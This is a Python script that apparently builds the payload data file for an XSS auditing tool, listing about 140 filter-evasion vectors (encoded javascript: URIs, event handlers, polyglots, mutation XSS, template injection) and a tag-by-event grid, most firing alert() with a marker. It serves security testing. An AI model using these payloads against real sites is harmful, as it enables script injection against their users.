"""Regenerate src/joomaudit/data/vectors.jsonl.

Hand-collected filter-evasion vectors plus the tag x event-handler grid
used by public HTML5 cheat sheets. `{{M}}` marks where the attribution
marker is substituted.
"""

import json
from pathlib import Path

OUT = Path(__file__).resolve().parents[1] / "src" / "joomaudit" / "data" / "vectors.jsonl"

A = "alert(/{{M}}/)"

CLASSIC = [
    ("script-basic", "<script>%s</script>" % A, ["script-tag"]),
    ("script-src", '<script src="//{{M}}.invalid/x.js"></script>', ["script-tag", "external"]),
    ("script-upper", "<SCRIPT>%s</SCRIPT>" % A, ["script-tag", "case"]),
    ("script-mixed-case", "<ScRiPt>%s</sCrIpT>" % A, ["script-tag", "case"]),
    ("script-nested-strip", "<scr<script>ipt>%s</scr</script>ipt>" % A, ["script-tag", "filter-evasion"]),
    ("script-close-breakout", "</script><script>%s</script>" % A, ["script-tag", "js-context"]),
    ("script-extra-open", "<<script>%s//<</script>" % A, ["script-tag", "filter-evasion"]),
    ("script-no-close", "<script>%s//" % A, ["script-tag", "filter-evasion"]),
    ("script-slash-attr", '<script/xss src="//{{M}}.invalid/x.js"></script>', ["script-tag", "filter-evasion"]),
    ("script-fromcharcode", "<script>alert(String.fromCharCode(88,83,83))</script>", ["script-tag", "encoding"]),
    ("script-quote-breakout", '";%s//' % A, ["js-context"]),
    ("script-squote-breakout", "';%s//" % A, ["js-context"]),
    ("script-template-breakout", "`;%s//" % A, ["js-context"]),
    ("img-onerror-1", '<img src=x onerror="alert(1)">', ["event-handler", "img"]),
    ("img-onerror-marker", "<img src=x onerror=%s>" % A, ["event-handler", "img"]),
    ("img-onerror-noquote", "<img src=x onerror=alert`{{M}}`>", ["event-handler", "img", "no-parens"]),
    ("img-javascript-src", '<IMG SRC="javascript:%s;">' % A, ["javascript-uri", "img"]),
    ("img-javascript-noquote", "<IMG SRC=javascript:%s>" % A, ["javascript-uri", "img"]),
    ("img-javascript-case", "<IMG SRC=JaVaScRiPt:%s>" % A, ["javascript-uri", "img", "case"]),
    ("img-grave-accent", "<IMG SRC=`javascript:%s`>" % A, ["javascript-uri", "img"]),
    ("img-malformed-a", '<a onmouseover="%s">xss</a>' % A, ["event-handler", "a"]),
    ("img-malformed", '<IMG """><SCRIPT>%s</SCRIPT>">' % A, ["script-tag", "malformed"]),
    ("img-decimal-entities", "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>", ["javascript-uri", "encoding"]),
    ("img-decimal-padded", "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>", ["javascript-uri", "encoding"]),
    ("img-hex-entities", "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>", ["javascript-uri", "encoding"]),
    ("img-embedded-tab", '<IMG SRC="jav\tascript:%s;">' % A, ["javascript-uri", "whitespace"]),
    ("img-encoded-tab", '<IMG SRC="jav&#x09;ascript:%s;">' % A, ["javascript-uri", "whitespace", "encoding"]),
    ("img-encoded-newline", '<IMG SRC="jav&#x0A;ascript:%s;">' % A, ["javascript-uri", "whitespace", "encoding"]),
    ("img-encoded-cr", '<IMG SRC="jav&#x0D;ascript:%s;">' % A, ["javascript-uri", "whitespace", "encoding"]),
    ("img-null-byte", '<IMG SRC=java\\0script:%s>' % A, ["javascript-uri", "null-byte"]),
    ("img-leading-space", '<IMG SRC=" &#14;  javascript:%s;">' % A, ["javascript-uri", "whitespace"]),
    ("img-dynsrc", '<IMG DYNSRC="javascript:%s">' % A, ["javascript-uri", "legacy"]),
    ("img-lowsrc", '<IMG LOWSRC="javascript:%s">' % A, ["javascript-uri", "legacy"]),
    ("img-style-expression", '<IMG STYLE="xss:expr/*XSS*/ession(%s)">' % A, ["css", "legacy"]),
    ("img-vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>", ["legacy"]),
    ("img-half-open", '<IMG SRC="`<javascript:%s>`">' % A, ["malformed"]),
    ("img-onerror-newline", "<img src=x\nonerror=%s>" % A, ["event-handler", "img", "whitespace"]),
    ("img-slash-separator", "<img/src=x/onerror=%s>" % A, ["event-handler", "img", "filter-evasion"]),
    ("body-onload", "<BODY ONLOAD=%s>" % A, ["event-handler", "body"]),
    ("body-background", '<BODY BACKGROUND="javascript:%s">' % A, ["javascript-uri", "legacy"]),
    ("body-nonalpha", "<BODY onload!#$%%&()*~+-_.,:;?@[/|\\]^`=%s>" % A, ["event-handler", "filter-evasion"]),
    ("svg-onload", "<svg onload=%s>" % A, ["event-handler", "svg"]),
    ("svg-slash-onload", "<svg/onload=%s>" % A, ["event-handler", "svg", "filter-evasion"]),
    ("svg-script", "<svg><script>%s</script></svg>" % A, ["svg", "script-tag"]),
    ("svg-animate-href", '<svg><a><animate attributeName=href values=javascript:%s /><text x=20 y=20>X</text></a></svg>' % A, ["svg", "javascript-uri"]),
    ("svg-set", "<svg><set attributeName=onmouseover to=%s>" % A, ["svg", "event-handler"]),
    ("svg-foreign", "<svg><foreignObject><iframe onload=%s></iframe></foreignObject></svg>" % A, ["svg", "event-handler"]),
    ("input-onfocus-autofocus", "<input onfocus=%s autofocus>" % A, ["event-handler", "autofocus"]),
    ("attr-breakout-onfocus", '" onfocus=%s autofocus="' % A, ["attribute-context", "event-handler", "autofocus"]),
    ("attr-breakout-onfocus-sq", "' onfocus=%s autofocus='" % A, ["attribute-context", "event-handler", "autofocus"]),
    ("attr-breakout-tag", '"><script>%s</script>' % A, ["attribute-context", "script-tag"]),
    ("attr-breakout-tag-sq", "'><script>%s</script>" % A, ["attribute-context", "script-tag"]),
    ("attr-breakout-img", '"><img src=x onerror=%s>' % A, ["attribute-context", "event-handler"]),
    ("attr-breakout-svg", '"><svg onload=%s>' % A, ["attribute-context", "event-handler", "svg"]),
    ("attr-mouseover", '" onmouseover="%s' % A, ["attribute-context", "event-handler"]),
    ("attr-style-breakout", '" style="animation-name:rotation" onanimationstart="%s' % A, ["attribute-context", "event-handler", "css"]),
    ("textarea-breakout", "</textarea><script>%s</script>" % A, ["rcdata-context", "script-tag"]),
    ("title-breakout", "</title><script>%s</script>" % A, ["rcdata-context", "script-tag"]),
    ("noscript-breakout", "</noscript><img src=x onerror=%s>" % A, ["rcdata-context", "event-handler"]),
    ("style-breakout", "</style><script>%s</script>" % A, ["rawtext-context", "script-tag"]),
    ("comment-breakout", "--><script>%s</script>" % A, ["comment-context", "script-tag"]),
    ("iframe-src-js", '<IFRAME SRC="javascript:%s;"></IFRAME>' % A, ["javascript-uri", "iframe"]),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;%s&lt;/script&gt;"></iframe>' % A, ["iframe", "encoding"]),
    ("iframe-event", "<IFRAME SRC=# onmouseover=%s></IFRAME>" % A, ["event-handler", "iframe"]),
    ("frameset", '<FRAMESET><FRAME SRC="javascript:%s;"></FRAMESET>' % A, ["javascript-uri", "legacy"]),
    ("table-background", '<TABLE BACKGROUND="javascript:%s">' % A, ["javascript-uri", "legacy"]),
    ("td-background", '<TABLE><TD BACKGROUND="javascript:%s">' % A, ["javascript-uri", "legacy"]),
    ("div-background-image", '<DIV STYLE="background-image: url(javascript:%s)">' % A, ["css", "legacy"]),
    ("div-expression", '<DIV STYLE="width: expression(%s);">' % A, ["css", "legacy"]),
    ("style-import", "<STYLE>@import'javascript:%s';</STYLE>" % A, ["css", "legacy"]),
    ("style-tag-js", '<STYLE TYPE="text/javascript">%s;</STYLE>' % A, ["css", "legacy"]),
    ("style-li", '<STYLE>li {list-style-image: url("javascript:%s");}</STYLE><UL><LI>XSS</br>' % A, ["css", "legacy"]),
    ("link-stylesheet", '<LINK REL="stylesheet" HREF="javascript:%s;">' % A, ["javascript-uri", "legacy"]),
    ("meta-refresh", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:%s;">' % A, ["javascript-uri", "meta"]),
    ("meta-refresh-data", '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">', ["data-uri", "meta"]),
    ("object-data", '<OBJECT TYPE="text/x-scriptlet" DATA="//{{M}}.invalid/scriptlet.html"></OBJECT>', ["object", "external"]),
    ("object-data-uri", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', ["object", "data-uri"]),
    ("embed-src", '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>', ["embed", "data-uri"]),
    ("base-href", '<BASE HREF="javascript:%s;//">' % A, ["javascript-uri", "legacy"]),
    ("a-href-js", '<a href="javascript:%s">x</a>' % A, ["javascript-uri", "a"]),
    ("a-href-js-entity", '<a href="javascript&colon;%s">x</a>' % A, ["javascript-uri", "encoding"]),
    ("a-href-data", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', ["data-uri", "a"]),
    ("form-action", '<form action="javascript:%s"><input type=submit>' % A, ["javascript-uri", "form"]),
    ("button-formaction", '<form><button formaction="javascript:%s">X</button>' % A, ["javascript-uri", "html5"]),
    ("isindex-action", '<isindex type=image src=1 onerror=%s>' % A, ["event-handler", "legacy"]),
    ("math-href", '<math href="javascript:%s">CLICKME</math>' % A, ["javascript-uri", "mathml"]),
    ("details-ontoggle", "<details open ontoggle=%s>" % A, ["event-handler", "html5"]),
    ("video-source-onerror", "<video><source onerror=%s>" % A, ["event-handler", "html5", "media"]),
    ("audio-src-onerror", "<audio src=x onerror=%s>" % A, ["event-handler", "html5", "media"]),
    ("video-poster-js", '<video poster=javascript:%s//></video>' % A, ["javascript-uri", "legacy"]),
    ("marquee-onstart", "<marquee onstart=%s>" % A, ["event-handler", "legacy"]),
    ("select-autofocus", "<select autofocus onfocus=%s>" % A, ["event-handler", "autofocus"]),
    ("textarea-autofocus", "<textarea autofocus onfocus=%s>" % A, ["event-handler", "autofocus"]),
    ("keygen-autofocus", "<keygen autofocus onfocus=%s>" % A, ["event-handler", "autofocus", "legacy"]),
    ("object-onerror", "<object data=x onerror=%s>" % A, ["event-handler", "object"]),
    ("xml-cdata", "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:%s\"></B></I></XML>" % A, ["legacy", "filter-evasion"]),
    ("html-comment-split", "<IMG SRC=\"javas<!-- -->cript:%s\">" % A, ["filter-evasion"]),
    ("unicode-escape-js", "<script>\\u0061lert(/{{M}}/)</script>", ["script-tag", "encoding"]),
    ("eval-atob", "<script>eval(atob('YWxlcnQoMSk='))</script>", ["script-tag", "encoding"]),
    ("constructor-call", "<script>[].constructor.constructor('alert(1)')()</script>", ["script-tag", "filter-evasion"]),
    ("js-uri-plain", "javascript:%s" % A, ["javascript-uri", "url-context"]),
    ("js-uri-comment", "javascript://%%0A%s" % A, ["javascript-uri", "url-context", "encoding"]),
    ("data-uri-plain", "data:text/html,<script>%s</script>" % A, ["data-uri", "url-context"]),
    ("url-encoded-script", "%%3Cscript%%3E%s%%3C%%2Fscript%%3E" % A, ["encoding", "url-context"]),
    ("double-url-encoded", "%%253Cscript%%253E%s%%253C%%252Fscript%%253E" % A, ["encoding", "url-context"]),
    ("html-entity-script", "&lt;script&gt;%s&lt;/script&gt;" % A, ["encoding", "double-decode"]),
    ("utf7-script", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", ["encoding", "legacy"]),
    ("angular-template", "{{constructor.constructor('alert(1)')()}}", ["template-injection"]),
    ("angular-sandbox-old", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}", ["template-injection", "legacy"]),
    ("vue-template", "{{_c.constructor('alert(1)')()}}", ["template-injection"]),
    ("jquery-html-hash", "#<img src=x onerror=%s>" % A, ["dom", "event-handler"]),
    ("location-hash-js", "#javascript:%s" % A, ["dom", "javascript-uri"]),
    ("polyglot-1", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=%s )//%%0D%%0A%%0d%%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=%s//>\\x3e" % (A, A), ["polyglot"]),
    ("polyglot-2", "'\"--></style></script><script>%s</script>" % A, ["polyglot", "script-tag"]),
    ("polyglot-3", "\"'><img src=x onerror=%s>" % A, ["polyglot", "event-handler"]),
    ("svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'1\' onerror=\'alert(1)\' /></svg>#x"></use></svg>', ["svg", "data-uri"]),
    ("img-srcset-onerror", "<img srcset=x onerror=%s>" % A, ["event-handler", "img"]),
    ("picture-onerror", "<picture><source srcset=x><img onerror=%s></picture>" % A, ["event-handler", "img"]),
    ("iframe-onload", "<iframe onload=%s>" % A, ["event-handler", "iframe"]),
    ("body-onpageshow", "<body onpageshow=%s>" % A, ["event-handler", "body"]),
    ("body-onhashchange", "<body onhashchange=%s><a href=#x>x</a>" % A, ["event-handler", "body"]),
    ("style-onload", "<style onload=%s></style>" % A, ["event-handler"]),
    ("link-onload", "<link rel=stylesheet href=data:,x onload=%s>" % A, ["event-handler"]),
    ("script-onerror", "<script src=x onerror=%s></script>" % A, ["event-handler", "script-tag"]),
    ("xmp-breakout", "</xmp><script>%s</script>" % A, ["rawtext-context", "script-tag"]),
    ("plaintext-breakout", "<plaintext></plaintext><script>%s</script>" % A, ["filter-evasion"]),
    ("cdata-svg", "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=%s>\"></svg>" % A, ["svg", "filter-evasion"]),
    ("noembed-breakout", "<noembed><img title=\"</noembed><img src=x onerror=%s>\"></noembed>" % A, ["mutation", "event-handler"]),
    ("noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=%s>\">" % A, ["mutation", "event-handler"]),
    ("template-mxss", "<template><img src=x onerror=%s></template>" % A, ["mutation", "event-handler"]),
    ("form-input-name", "<form><input name=attributes><img src=x onerror=%s>" % A, ["dom-clobbering"]),
    ("anchor-clobber", "<a id=defaultConfig href=\"javascript:%s\"></a>" % A, ["dom-clobbering", "javascript-uri"]),
]

TAGS = ["img", "svg", "video", "audio", "body", "iframe", "input", "details", "marquee", "object", "div", "a", "xss"]
EVENTS = [
    ("onerror", "src=x "),
    ("onload", ""),
    ("onmouseover", ""),
    ("onfocus", "tabindex=1 autofocus "),
    ("onclick", ""),
    ("onpointerenter", ""),
    ("onanimationstart", "style=animation-name:x "),
    ("onbeforeprint", ""),
    ("onfocusin", "tabindex=1 autofocus "),
    ("onauxclick", ""),
]

rows = []
seen = set()
for vid, body, tags in CLASSIC:
    assert vid not in seen, vid
    seen.add(vid)
    rows.append({"id": vid, "body": body, "tags": tags})

for tag in TAGS:
    for event, extra in EVENTS:
        vid = "grid-%s-%s" % (tag, event)
        body = "<%s %s%s=%s>" % (tag, extra, event, A)
        rows.append({"id": vid, "body": body, "tags": ["event-handler", "grid", tag]})

OUT.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
print(len(rows), "vectors written to", OUT)
